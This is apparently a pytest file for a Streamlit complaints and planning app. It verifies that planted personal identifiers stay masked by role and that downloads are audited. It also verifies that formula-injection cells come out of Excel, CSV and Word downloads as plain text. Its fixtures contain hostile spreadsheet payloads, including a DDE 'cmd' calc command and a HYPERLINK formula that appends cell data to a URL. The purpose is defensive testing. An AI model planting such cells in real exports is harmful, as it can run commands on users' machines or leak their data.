"""Issue 16 under AppTest: identifiers planted in complaint descriptions, survey comments and a
saved work-program draft never reach a role without the identifiers grant, on screen or in any
downloaded file; an office and a granted analyst see them. Hostile cells planted in the data
come out of the page downloads as data (complaints Excel, audit and resumen CSV, work program
Excel and Word). Every download button is audited.

Downloads are captured by wrapping ``st.download_button`` (the deferred Excel is built as a
click would build it), so the test reads exactly the bytes a user would get."""

from __future__ import annotations

import ast
import csv
import io
import shutil
from pathlib import Path

import pandas as pd
import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import text
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.element_tree import Block, Dataframe

from lib.access import User
from lib.audit import record_event
from lib.db.engine import make_engine
from lib.export import csv_bytes
from lib.planning import drafts as dr
from lib.users import save_user
from tests.apptest import signed_in

ROOT = Path(__file__).resolve().parents[1]
PASSWORD = "clave-de-prueba-1"
ADMIN = User("admin", "Admin", "administrador")
PLANNER = User("ana", "Ana", "planeador")
PLANT = (
    "Patrón Z1499999123 RFC ABCD800101XX1 CURP GODE561231HDFRRN09 NSS 12345678901 "
    "correo juan.perez@empresa.com.mx tel (33) 1234-5678 llamó"
)
NEEDLES = [
    "Z1499999123",
    "ABCD800101XX1",
    "GODE561231HDFRRN09",
    "12345678901",
    "juan.perez@empresa",
    "1234-5678",
]
HYPERLINK = '=HYPERLINK("http://x/?"&A2,"Ver detalle")'
ACCOUNTS = {
    "titular": {"role": "titular"},
    "analista": {"role": "analista"},
    "planeador": {"role": "planeador"},
    "admin": {"role": "administrador"},
    "jalisco": {"role": "oficina", "ooad_id": 14},
    "vista": {"role": "analista", "can_see_identifiers": True},
}


def _draft_content(notes: str) -> dict:
    targets = pd.DataFrame(
        [
            {
                "indicator": "Participación digital",
                "unit": "%",
                "baseline": 38.2,
                "target": 45.5,
                "owner_unit": "División de Servicios Subdelegacionales",
                "notes": PLANT,
            },
            {
                "indicator": "=1+2",
                "unit": "%",
                "baseline": 1.0,
                "target": 2.0,
                "owner_unit": "@SUM(A1)",
                "notes": HYPERLINK,
            },
        ]
    )
    return dr.prepare_content(2027, "PAT Z1499999123", "borrador", notes, targets, [], [])


@pytest.fixture(scope="module")
def planted(sqlite_tiny, tmp_path_factory) -> tuple[str, int]:
    """A private copy of the tiny institute with the identifiers and hostile cells planted,
    and one account per role; returns (url, draft id)."""
    path = tmp_path_factory.mktemp("planted") / "planted.db"
    shutil.copy(sqlite_tiny.removeprefix("sqlite:///"), path)
    url = f"sqlite:///{path}"
    engine = make_engine(url)
    jal = "SELECT id FROM subdelegacion WHERE ooad_id = 14"
    with engine.begin() as conn:
        recent = (
            conn.execute(
                text(
                    f"SELECT id FROM complaint WHERE subdelegacion_id IN ({jal}) ORDER BY received_on DESC, id DESC LIMIT 3"
                )
            )
            .scalars()
            .all()
        )
        conn.execute(
            text(
                f"UPDATE complaint SET description = :d, category_id = NULL WHERE id IN ({','.join(map(str, recent))})"
            ),
            {"d": PLANT},
        )
        overdue = conn.execute(
            text(
                f"SELECT id FROM complaint WHERE subdelegacion_id IN ({jal}) AND status = 'abierta' ORDER BY due_on LIMIT 1"
            )
        ).scalar_one()
        conn.execute(text("UPDATE complaint SET folio = '=1+2' WHERE id = :i"), {"i": overdue})
        for where in (f"subdelegacion_id IN ({jal})", "1 = 1"):
            ids = (
                conn.execute(
                    text(
                        f"SELECT id FROM survey_response WHERE {where} ORDER BY responded_on DESC, id DESC LIMIT 3"
                    )
                )
                .scalars()
                .all()
            )
            conn.execute(
                text(
                    f"UPDATE survey_response SET comment = :c WHERE id IN ({','.join(map(str, ids))})"
                ),
                {"c": PLANT},
            )
    first = dr.create_draft(engine, PLANNER, _draft_content("nota inicial"))
    draft = dr.save_draft(engine, first.id, PLANNER, _draft_content(PLANT), expected_version=1)
    for name, spec in ACCOUNTS.items():
        save_user(engine, ADMIN, name, name.capitalize(), password=PASSWORD, **spec)
    record_event(engine, HYPERLINK, "sign_in_failed", "=cmd|' /C calc'!A0")
    engine.dispose()
    return url, draft.id


def _open(monkeypatch, url: str, username: str, page: str, **params: str) -> AppTest:
    at = signed_in(monkeypatch, url, username, PASSWORD, **params)
    at.switch_page(page).run()
    assert not at.exception, (username, page, at.exception)
    return at


def _rendered(at: AppTest) -> str:
    """Every element's text: its protobuf (markdown, captions, metrics, labels, options, the
    grid's Arrow bytes) and, for tables, their values."""
    out: list[str] = []

    def walk(node) -> None:
        if isinstance(node, Block):
            for child in node.children.values():
                walk(child)
            return
        out.append(str(getattr(node, "proto", "")))
        if isinstance(node, Dataframe):
            out.append(node.value.astype(str).to_string())

    walk(at._tree)
    return "\n".join(out)


def _file_text(name: str, data: bytes) -> str:
    if name.endswith(".xlsx"):
        wb = load_workbook(io.BytesIO(data))
        return "\n".join(
            str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
        )
    if name.endswith(".docx"):
        doc = Document(io.BytesIO(data))
        cells = [c.text for t in doc.tables for r in t.rows for c in r.cells]
        return "\n".join([p.text for p in doc.paragraphs] + cells)
    return data.decode("utf-8-sig")


def _visit_all(monkeypatch, url: str, draft: int, username: str, files: dict) -> str:
    """Quejas › Texto and Exportar, Evaluación › Comentarios, the draft's Metas, Versiones and
    Exportar (with the Word document prepared): everything shown and downloaded, as text."""
    shown = []
    for page, vista in [
        ("pages/5_quejas.py", "Texto"),
        ("pages/5_quejas.py", "Exportar"),
        ("pages/3_evaluacion.py", "Comentarios"),
    ]:
        shown.append(_rendered(_open(monkeypatch, url, username, page, vista=vista)))
    for vista in ("Metas", "Versiones", "Exportar"):
        at = _open(monkeypatch, url, username, "pages/7_programa.py", vista=vista)
        at.selectbox(key="pat_draft").set_value(draft).run()
        if vista == "Exportar":
            next(b for b in at.button if b.label.startswith("Preparar documento")).click().run()
            assert any(d.label == "Descargar documento Word" for d in at.get("download_button"))
        assert not at.exception, at.exception
        shown.append(_rendered(at))
    return "\n".join(shown)


def _check(planted, monkeypatch, downloads, username: str, sees: bool) -> None:
    url, draft = planted
    shown = _visit_all(monkeypatch, url, draft, username, downloads)
    names = set(downloads)
    assert any(n.startswith("quejas_") for n in names) and any(n.endswith(".docx") for n in names)
    assert sum(n.endswith(".xlsx") for n in names) >= 2
    assert "Z14•••••123" in shown or sees  # the masked form is what a masked role reads
    for needle in NEEDLES:
        assert (needle in shown) is sees, (username, needle, "pantalla")
        for name, data in downloads.items():
            if name.startswith("programa_"):  # the planted texts are in the draft's files
                assert (needle in _file_text(name, data)) is sees, (username, needle, name)
            elif not sees:
                assert needle not in _file_text(name, data), (username, needle, name)


@pytest.mark.parametrize("username", ["titular", "analista", "planeador", "admin"])
def test_planted_identifiers_never_reach_a_masked_role(planted, monkeypatch, downloads, username):
    _check(planted, monkeypatch, downloads, username, sees=False)


@pytest.mark.parametrize("username", ["jalisco", "vista"])
def test_an_office_and_a_granted_user_see_the_planted_identifiers(
    planted, monkeypatch, downloads, username
):
    _check(planted, monkeypatch, downloads, username, sees=True)


def _no_formulas(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [
        c.coordinate
        for ws in wb.worksheets
        for r in ws.iter_rows()
        for c in r
        if c.data_type == "f"
    ]


def test_hostile_cells_come_out_of_the_page_downloads_as_data(planted, monkeypatch, downloads):
    url, draft = planted
    _open(monkeypatch, url, "jalisco", "pages/5_quejas.py", vista="Exportar")
    at = _open(monkeypatch, url, "admin", "pages/7_programa.py", vista="Exportar")
    at.selectbox(key="pat_draft").set_value(draft).run()
    next(b for b in at.button if b.label.startswith("Preparar documento")).click().run()
    _open(monkeypatch, url, "admin", "pages/96_auditoria.py")
    resumen = _open(monkeypatch, url, "admin", "pages/1_resumen.py")
    assert not resumen.exception

    quejas = next(v for k, v in downloads.items() if k.startswith("quejas_"))
    assert _no_formulas(quejas) == []
    folios = [c.value for c in load_workbook(io.BytesIO(quejas))["Vencidas abiertas"]["A"]]
    assert "=1+2" in folios  # the folio, as typed, as text

    xlsx = next(v for k, v in downloads.items() if k.startswith("programa_") and k.endswith("xlsx"))
    assert _no_formulas(xlsx) == []
    metas = [[c.value for c in r] for r in load_workbook(io.BytesIO(xlsx))["Metas"].iter_rows()]
    notes = next(r for r in metas if "Notas" in r).index("Notas")
    # a hostile label names no indicator: kept as text, flagged, without a key (issue 19)
    assert [metas[2][0], metas[2][notes], metas[2][-1]] == ["=1+2", HYPERLINK, None]
    docx = next(v for k, v in downloads.items() if k.endswith(".docx"))
    doc = Document(io.BytesIO(docx))
    assert "instrText" not in doc.element.xml and "fldSimple" not in doc.element.xml
    assert HYPERLINK in [c.text for t in doc.tables for r in t.rows for c in r.cells]

    audit = next(v for k, v in downloads.items() if k.startswith("bitacora_"))
    rows = list(csv.reader(io.StringIO(audit.decode("utf-8-sig"), newline="")))
    header = rows[0]
    cells = [cell for r in rows[1:] for cell in r]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    assert "'=cmd|' /C calc'!A0" in cells
    assert all(len(r) == len(header) for r in rows)

    summary = downloads["resumen_indicadores.csv"]
    table = pd.read_csv(io.BytesIO(summary), encoding="utf-8-sig")
    assert list(table.columns) == [
        "Indicador",
        "Periodo",
        "Comparación",
        "Unidad",
        "Cambio",
        "Unidad del cambio",
    ]
    assert pd.api.types.is_numeric_dtype(table["Periodo"])
    assert not table["Indicador"].astype(str).str.startswith("'").any()


def test_import_problems_csv_neutralises_the_values_it_quotes(planted):
    """The import page's problems CSV is csv_bytes(result.problems): a rejected value that is a
    formula comes back with the apostrophe."""
    from lib.ingest.load import import_file

    url, _ = planted
    engine = make_engine(url)
    header = (
        "numero_de_folio;tipo;categoria;canal;subdelegacion;registro;fecha_recepcion;"
        "fecha_limite;fecha_cierre;estado;descripcion"
    )
    row = "=1+2;queja;2;ventanilla;1412;;=HYPERLINK(1);25/03/2026;;abierta;x"
    result = import_file(
        engine, "complaint", f"{header}\n{row}\n".encode(), file_name="p.csv", dry_run=True
    )
    engine.dispose()
    assert result.problem_count
    rows = list(csv.reader(io.StringIO(csv_bytes(result.problems).decode("utf-8-sig"))))
    values = [r[rows[0].index("valor")] for r in rows[1:]]
    assert "'=HYPERLINK(1)" in values and "=HYPERLINK(1)" not in values


def _calls(path: Path) -> list[ast.Call]:
    tree = ast.parse(path.read_text())
    return [
        n
        for n in ast.walk(tree)
        if isinstance(n, ast.Call)
        and isinstance(n.func, ast.Attribute)
        and n.func.attr == "download_button"
    ]


def test_every_download_button_is_audited_and_its_bytes_come_from_lib_export():
    files = [*ROOT.glob("pages/*.py"), *ROOT.glob("lib/**/*.py"), ROOT / "Home.py"]
    calls = [(p, c) for p in files for c in _calls(p)]
    assert len(calls) >= 6  # programa 2, auditoría, importar, layout 2
    for path, call in calls:
        on_click = {k.arg: k.value for k in call.keywords}.get("on_click")
        # ctx.store.record_export: the page store records as the context's user
        assert on_click is not None and ast.unparse(on_click).endswith(".store.record_export"), path
    for path in files:
        if path.name == "export.py" and path.parent.name == "lib":
            continue
        source = path.read_text()
        for writer in (".to_csv(", ".to_excel(", "Document(", "ExcelWriter(", "Workbook("):
            assert writer not in source or "download" not in source, (path, writer)
